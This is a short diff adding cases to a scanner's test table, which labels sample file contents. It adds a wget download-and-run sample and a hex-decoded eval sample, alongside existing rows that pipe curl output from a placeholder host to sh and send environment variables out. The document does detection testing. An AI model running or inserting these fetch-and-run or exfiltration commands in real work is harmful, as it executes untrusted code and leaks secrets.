@@ -21,6 +21,8 @@ describe('marks of a file', () => {
     ],
     ['a.js', 'exec("curl -s http://x.test/a | sh")', ['fetches-and-runs']],
     ['a.js', 'send(JSON.stringify(process.env))', ['takes-environment']],
+    ['a.sh', 'wget -q http://x.test/m && chmod +x m && ./m', ['fetches-and-runs']],
+    ['a.js', 'new Function(Buffer.from(x, "hex").toString())()', ['packed']],
     ['bin/tool', '\u007fELF rest', ['binary']],
     ['tool.exe', 'MZ rest', ['binary']],
   ])('finds what is wrong with %s: %j', (path, text, ids) => {
